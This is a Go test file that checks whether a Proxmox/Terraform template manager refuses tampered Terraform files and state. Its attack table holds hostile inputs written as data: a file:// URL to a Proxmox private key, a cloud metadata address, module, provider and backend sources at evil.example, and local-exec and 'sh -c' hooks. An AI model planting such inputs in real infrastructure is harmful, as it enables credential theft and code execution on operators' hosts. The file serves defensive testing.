package hostile_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/go-logr/logr/funcr"
	"sigs.k8s.io/controller-runtime/pkg/log"

	"github.com/numaform/numaform/fleet"
	"github.com/numaform/numaform/generator"
	"github.com/numaform/numaform/internal/enginetest"
	"github.com/numaform/numaform/internal/proxmox"
	"github.com/numaform/numaform/internal/pvesim"
	"github.com/numaform/numaform/internal/scaler"
	"github.com/numaform/numaform/internal/store"
	"github.com/numaform/numaform/internal/testenv"
	"github.com/numaform/numaform/state"
	"github.com/numaform/numaform/state/guard"
	"github.com/numaform/numaform/topology"
)

const (
	// The image of the attacked template, and its VMID.
	templateImage = "https://images.example/debian.qcow2"
	templateVMID  = 9100
	// strangerTemplate is the VMID of an unmanaged VM in template_vmid_range, and
	// strangerImage a VMID whose image another user downloaded.
	strangerTemplate, strangerImage = 9105, 9106
)

// templateWorld is a host with a template of numaform, and unmanaged VMs and files. An
// attacker edits the files of the template's root, or its state.
type templateWorld struct {
	t      *testing.T
	sim    *pvesim.Server
	config scaler.Config
	client *proxmox.Client
	// dir contains the fleet and the state directory. kept is a copy from before any attack.
	dir, kept string
	template  fleet.Template
}

func newTemplateWorld(t *testing.T) *templateWorld {
	t.Helper()
	w := &templateWorld{t: t, dir: filepath.Join(t.TempDir(), "numaform"), kept: t.TempDir()}
	machine := testenv.Host(t, "pve-1", "xeon-6230-2s-snc2", 9001)
	w.sim = testenv.Proxmox(t, func(c *pvesim.Config) {
		c.Hosts = []topology.Host{machine}
		*c = c.WithToken(pvesim.DefaultToken, pvesim.DefaultTokenSecret)
		c.Images = map[string]pvesim.Image{templateImage: {Data: []byte(templateImage), DiskMiB: 3 << 10}}
		// More than docs/templates.md requires, so that no attack fails for a missing
		// privilege.
		c.Roles = append(c.Roles, pvesim.Role{Name: "Everything", Privileges: strings.Fields("Sys.AccessNetwork Sys.Audit SDN.Use " +
			"Datastore.Allocate Datastore.AllocateSpace Datastore.AllocateTemplate Datastore.Audit VM.Allocate VM.Audit VM.Clone VM.PowerMgmt " +
			"VM.Config.CPU VM.Config.Cloudinit VM.Config.CDROM VM.Config.Disk VM.Config.HWType VM.Config.Memory VM.Config.Network VM.Config.Options")})
		user, _, _ := strings.Cut(pvesim.DefaultToken, "!")
		for _, subject := range []string{user, pvesim.DefaultToken} {
			for _, path := range []string{"/nodes", "/storage", "/sdn/zones", "/vms"} {
				c.ACL = append(c.ACL, pvesim.ACL{Path: path, Subject: subject, Role: "Everything"})
			}
		}
	})
	for _, vmid := range []int{strangerOutside, strangerTemplate} {
		stranger := pvesim.Guest{VMID: vmid, Host: "pve-1", Config: map[string]string{"name": "accounting", "cores": "1", "memory": "512", "description": "do not touch"}}
		if err := w.sim.PutGuest(stranger); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.sim.PutISO("pve-1", "local", "accounting.iso", []byte("do not touch")); err != nil {
		t.Fatal(err)
	}
	w.download(fmt.Sprintf("template-%d.qcow2", strangerImage))
	var err error
	if w.client, err = proxmox.New(proxmox.Config{
		Region: testenv.Region, URL: w.sim.URL(), CA: w.sim.CertPEM(), Machines: map[topology.HostName]topology.Machine{"pve-1": machine.Machine},
		TokenID: pvesim.DefaultToken, TokenSecret: pvesim.DefaultTokenSecret,
	}); err != nil {
		t.Fatal(err)
	}
	engine, err := state.FindEngine(t.Context(), state.EngineConfig{Binary: testenv.Engine(t)})
	if err != nil {
		t.Fatal(err)
	}
	files := filepath.Join(w.dir, "fleet")
	w.config = scaler.Config{
		ClusterID: "hostile", Store: store.NewSealed(store.NewDirectory(files), store.FileVault(filepath.Join(t.TempDir(), "key")), "hostile"),
		Dir: files, StateDir: filepath.Join(w.dir, "state"), Backend: fleet.Backend{Type: "local"},
		Regions: []scaler.Region{{
			Name: testenv.Region, Endpoint: w.sim.URL(), CAFile: testenv.CertFile(t, w.sim), Live: w.client,
			VMIDs: fleet.VMIDRange{Lower: 2000, Upper: 2999}, TemplateVMIDs: fleet.VMIDRange{Lower: templateVMID, Upper: 9199},
		}},
		Engine: engine, PluginDir: testenv.PluginDir(t), Rules: guard.DefaultRules(),
	}
	sum := sha256.Sum256([]byte(templateImage))
	w.template = fleet.Template{
		Of: "debian", Host: machine.ID(),
		Image:    fleet.TemplateImage{URL: templateImage, Checksum: hex.EncodeToString(sum[:]), Algorithm: "sha256", Format: "qcow2", Storage: "local"},
		Hardware: fleet.TemplateHardware{Storage: "local-lvm", DiskGiB: 8, Networks: []fleet.Network{{Bridge: "vmbr0"}}},
	}
	if w.template.Name, err = fleet.TemplateName("debian", w.template.Image, &w.template.Hardware); err != nil {
		t.Fatal(err)
	}
	return w
}

// download downloads an image as another user does.
func (w *templateWorld) download(name string) {
	w.t.Helper()
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(w.sim.CertPEM())
	form := url.Values{"content": {"import"}, "filename": {name}, "url": {templateImage}}.Encode()
	request, err := http.NewRequestWithContext(w.t.Context(), http.MethodPost, w.sim.URL()+"/api2/json/nodes/pve-1/storage/local/download-url", strings.NewReader(form))
	if err != nil {
		w.t.Fatal(err)
	}
	request.Header.Set("Authorization", "PVEAPIToken="+pvesim.DefaultToken+"="+pvesim.DefaultTokenSecret)
	request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS12}}}
	response, err := client.Do(request)
	if err != nil {
		w.t.Fatal(err)
	}
	defer response.Body.Close() //nolint:errcheck // only its status matters
	for !slices.Contains(w.sim.Volumes("pve-1"), "local:import/"+name) {
		if response.StatusCode != http.StatusOK || w.t.Context().Err() != nil {
			w.t.Fatalf("downloading %s: %s", name, response.Status)
		}
	}
}

// request runs a writer until it has done or refused what a ProxmoxTemplate requests, and
// returns why it refused it, or "".
func (w *templateWorld) request(request scaler.TemplateRequest) (refused string) {
	w.t.Helper()
	ended := make(chan string, 100)
	logger := funcr.New(func(_, args string) {
		switch {
		case strings.Contains(args, `"completed change"`):
			ended <- ""
		case strings.Contains(args, `"postponed a change`):
			ended <- args
		}
	}, funcr.Options{})
	writer := scaler.NewWriter(scaler.New(w.config), scaler.WriterConfig{
		Snapshot: func(ctx context.Context) (*topology.Snapshot, error) { return w.client.Snapshot(ctx) }, Poll: time.Second,
	})
	writer.SetTemplates("debian", request)
	ctx, cancel := context.WithCancel(log.IntoContext(context.Background(), logger))
	done := make(chan error)
	go func() { done <- writer.Run(ctx) }()
	defer func() {
		cancel()
		if err := <-done; err != nil {
			w.t.Error(err)
		}
	}()
	ticker := time.NewTicker(100 * time.Millisecond)
	defer ticker.Stop()
	deadline := time.NewTimer(5 * time.Minute)
	defer deadline.Stop()
	for {
		select {
		case refused = <-ended:
			return refused
		case <-ticker.C:
			states, _ := writer.Templates("debian")
			for _, state := range states {
				if state.Err != nil && !state.Applying {
					return state.Err.Error()
				}
			}
		case <-deadline.C:
			w.t.Fatal("the request has no outcome")
		}
	}
}

// root returns the path of a file of the template's root in the fleet, and statePath the path
// of its state.
func (w *templateWorld) root(name string) string {
	return filepath.Join(w.dir, "fleet", "templates", string(testenv.Region), "pve-1", name)
}

func (w *templateWorld) statePath() string {
	return filepath.Join(w.dir, "state", "states", "templates", string(testenv.Region), "pve-1", "terraform.tfstate")
}

// inFile replaces a text in the template's file.
func inFile(old, replacement string) func(*templateWorld) {
	return func(w *templateWorld) {
		w.t.Helper()
		name := w.root("template-" + w.template.Name + ".tf")
		content, err := os.ReadFile(name)
		if err != nil || !bytes.Contains(content, []byte(old)) {
			w.t.Fatalf("%s does not contain %q (%v):\n%s", name, old, err, content)
		}
		if err := os.WriteFile(name, bytes.ReplaceAll(content, []byte(old), []byte(replacement)), 0o600); err != nil {
			w.t.Fatal(err)
		}
	}
}

// addedFile adds a file to the template's root.
func addedFile(name, content string) func(*templateWorld) {
	return func(w *templateWorld) {
		w.t.Helper()
		if err := os.WriteFile(w.root(name), []byte(content), 0o600); err != nil {
			w.t.Fatal(err)
		}
	}
}

// inState edits the instances of a type of resource in the state, and the resources.
func inState(kind string, edit func(resource, instance map[string]any)) func(*templateWorld) {
	return func(w *templateWorld) {
		w.t.Helper()
		raw, err := os.ReadFile(w.statePath())
		var doc map[string]any
		if err == nil {
			err = json.Unmarshal(raw, &doc)
		}
		if err != nil {
			w.t.Fatal(err)
		}
		found := false
		for _, r := range doc["resources"].([]any) {
			if resource := r.(map[string]any); resource["type"] == kind && resource["mode"] == "managed" {
				found = true
				edit(resource, resource["instances"].([]any)[0].(map[string]any))
			}
		}
		if raw, err = json.Marshal(doc); err == nil {
			err = os.WriteFile(w.statePath(), raw, 0o600)
		}
		if err != nil || !found {
			w.t.Fatalf("editing the state: %v, found %v", err, found)
		}
	}
}

// values sets attributes in the state.
func values(kind string, set map[string]any) func(*templateWorld) {
	return inState(kind, func(_, instance map[string]any) {
		attributes := instance["attributes"].(map[string]any)
		for name, value := range set {
			attributes[name] = value
		}
	})
}

// TestTemplateRoots checks with the real engine that whoever edits the files or the state of
// a root of templates cannot make numaform write to anything but the template: to other VMs,
// to other volumes, or with another image. `make test` runs one attack of each kind.
func TestTemplateRoots(t *testing.T) {
	t.Parallel()
	w := newTemplateWorld(t)
	const vm, image = "proxmox_virtual_environment_vm", "proxmox_download_file"
	marker := "numaform-template/1 cluster=hostile template=debian serial=1"
	started := filepath.Join(t.TempDir(), "started")
	run := fmt.Sprintf("touch %s", started)
	for _, attack := range []struct {
		name string
		do   func(*templateWorld)
		// all runs the attack also in make test.
		all bool
		// refused is set if each request must be refused, and not only be limited to the
		// template.
		refused bool
	}{
		{name: "VMID of another VM in the file", refused: true, all: true, do: inFile(fmt.Sprint(templateVMID), fmt.Sprint(strangerTemplate))},
		{name: "VMID outside the range in the file", refused: true, do: inFile(fmt.Sprint(templateVMID), fmt.Sprint(strangerOutside))},
		{name: "URL of a file", all: true, do: inFile(templateImage, "file:///etc/pve/priv/authkey.key")},
		{name: "URL of an internal address", do: inFile(templateImage, "http://169.254.169.254/latest/meta-data")},
		{name: "checksum", do: inFile(w.template.Image.Checksum, strings.Repeat("0", 64))},
		{name: "storage of the image", do: inFile(`datastore_id       = "local"`, `datastore_id       = "local-lvm"`)},
		{name: "marker of another installation", refused: true, all: true, do: inFile("cluster=hostile", "cluster=other")},
		{name: "marker of another ProxmoxTemplate", do: inFile("template=debian", "template=other")},
		{name: "module of another source", refused: true, all: true, do: inFile("../../../modules/", "git::https://evil.example/modules/")},
		{name: "module beside it", refused: true, do: inFile("../../../modules/", "./modules/")},
		{name: "provisioner in the file", refused: true, do: inFile("module \"", fmt.Sprintf("resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" { command = %q }\n}\n\nmodule \"", run))},
		{name: "file with a resource", do: addedFile("evil.tf", fmt.Sprintf("resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" { command = %q }\n}\n", run))},
		{name: "file with a provider", do: addedFile("evil.tf", "terraform {\n  required_providers {\n    evil = { source = \"evil.example/evil/evil\" }\n  }\n}\n")},
		{name: "file with a data source", do: addedFile("evil.tf.json", fmt.Sprintf(`{"data": {"external": {"x": {"program": ["sh", "-c", %q]}}}}`, run))},
		{name: "template whose image is another user's", all: true, do: func(w *templateWorld) {
			t := w.template
			t.VMID, t.Serial, t.Hardware.DiskGiB = strangerImage, 1, 9
			var err error
			if t.Name, err = fleet.TemplateName(t.Of, t.Image, &t.Hardware); err != nil {
				w.t.Fatal(err)
			}
			files, err := generator.Current().RenderTemplates(fleet.Fleet{
				ClusterID: "hostile", Backend: fleet.Backend{Type: "local"}, Regions: []fleet.Region{{Name: testenv.Region, Endpoint: w.sim.URL()}},
			}, t.Host, []fleet.Template{t})
			if err != nil {
				w.t.Fatal(err)
			}
			addedFile("template-"+t.Name+".tf", string(files[generator.TemplateFile(&t)]))(w)
		}},
		{name: "override", do: addedFile("override.tf", fmt.Sprintf("module %q {\n  vm_id = %d\n}\n", w.template.Name, strangerTemplate))},
		{name: "another backend", do: addedFile("main.tf", "terraform {\n  backend \"http\" { address = \"http://evil.example\" }\n}\n")},

		{name: "VM of the state", refused: true, all: true, do: values(vm, map[string]any{"id": fmt.Sprint(strangerTemplate), "vm_id": strangerTemplate})},
		{name: "ID in the state", do: values(vm, map[string]any{"id": fmt.Sprint(strangerOutside)})},
		{name: "VM outside the range in the state", refused: true, do: values(vm, map[string]any{"id": fmt.Sprint(strangerOutside), "vm_id": strangerOutside})},
		{name: "marker in the state", do: values(vm, map[string]any{"description": strings.Replace(marker, "hostile", "other", 1)})},
		{name: "tainted VM", all: true, do: inState(vm, func(_, instance map[string]any) { instance["status"] = "tainted" })},
		{name: "deposed VM", refused: true, do: inState(vm, func(resource, instance map[string]any) {
			attributes := map[string]any{}
			for name, value := range instance["attributes"].(map[string]any) {
				attributes[name] = value
			}
			attributes["id"], attributes["vm_id"] = fmt.Sprint(strangerTemplate), strangerTemplate
			resource["instances"] = append(resource["instances"].([]any), map[string]any{"deposed": "0123abcd", "schema_version": instance["schema_version"], "attributes": attributes})
		})},
		{name: "ISO image instead of the image", refused: true, all: true, do: values(image, map[string]any{"id": "local:iso/accounting.iso", "content_type": "iso", "file_name": "accounting.iso"})},
		{name: "disk instead of the image", do: values(image, map[string]any{"id": "local-lvm:vm-150-disk-0", "datastore_id": "local-lvm", "content_type": "images"})},
		{name: "other address of the VM", refused: true, do: inState(vm, func(resource, _ map[string]any) { resource["module"] = "module.other" })},
		{name: "resource of another type", refused: true, do: inState(image, func(resource, _ map[string]any) {
			resource["type"], resource["name"] = "proxmox_virtual_environment_file", "x"
		})},
		{name: "properties", do: inState("terraform_data", func(_, instance map[string]any) {
			instance["attributes"].(map[string]any)["input"].(map[string]any)["value"].(map[string]any)["bios"] = "ovmf"
		})},
	} {
		if !attack.all && !enginetest.EveryCase() {
			continue
		}
		changed := w.template
		changed.Tags = []string{"changed"}
		for action, request := range map[string]scaler.TemplateRequest{"update": {Templates: []fleet.Template{changed}}, "delete": {Deleted: true}} {
			t.Run(attack.name+"/"+action, func(t *testing.T) {
				w := *w
				w.t = t
				w.restore()
				attack.do(&w)
				refused := w.request(request)
				t.Logf("outcome: %q", refused)
				if harm := w.harm(); len(harm) > 0 {
					t.Errorf("numaform wrote %s; the outcome is %q", strings.Join(harm, ", "), refused)
				}
				if attack.refused && refused == "" {
					t.Error("the request was not refused")
				}
				if _, err := os.Stat(started); err == nil {
					t.Fatal("a program of the attacker ran")
				}
			})
		}
	}
}

// restore restores the files from before any attack. If an earlier request deleted the
// template, it creates it again.
func (w *templateWorld) restore() {
	w.t.Helper()
	if err := os.RemoveAll(w.dir); err != nil {
		w.t.Fatal(err)
	}
	from, to := w.kept, w.dir
	guest, exists := w.sim.Guest(templateVMID)
	if exists = exists && guest.Config["tags"] == "numaform-template-9100" && slices.Contains(w.sim.Volumes("pve-1"), "local:import/template-9100.qcow2"); !exists {
		w.sim.RemoveGuest(templateVMID)
		if refused := w.request(scaler.TemplateRequest{Templates: []fleet.Template{w.template}}); refused != "" {
			w.t.Fatalf("creating the template: %s", refused)
		}
		from, to = w.dir, w.kept
		if err := os.RemoveAll(w.kept); err != nil {
			w.t.Fatal(err)
		}
	}
	if out, err := exec.Command("cp", "-a", from, to).CombinedOutput(); err != nil {
		w.t.Fatalf("copying the fleet: %v\n%s", err, out)
	}
	w.sim.ResetCalls()
}

// harm returns the writes to Proxmox that are not about the template.
func (w *templateWorld) harm() (harm []string) {
	vm := fmt.Sprintf("/nodes/pve-1/qemu/%d", templateVMID)
	for _, call := range w.sim.Calls() {
		own := false
		switch call.Path {
		case "/nodes/pve-1/qemu":
			own = call.Params["vmid"] == fmt.Sprint(templateVMID)
		case "/nodes/pve-1/storage/local/download-url":
			own = call.Params["url"] == templateImage && call.Params["filename"] == "template-9100.qcow2"
		case "/nodes/pve-1/storage/local/content/local:import/template-9100.qcow2":
			own = true
		default:
			own = call.Path == vm || strings.HasPrefix(call.Path, vm+"/")
		}
		if call.Method != "GET" && !own {
			harm = append(harm, call.Method+" "+call.Path)
		}
	}
	return harm
}
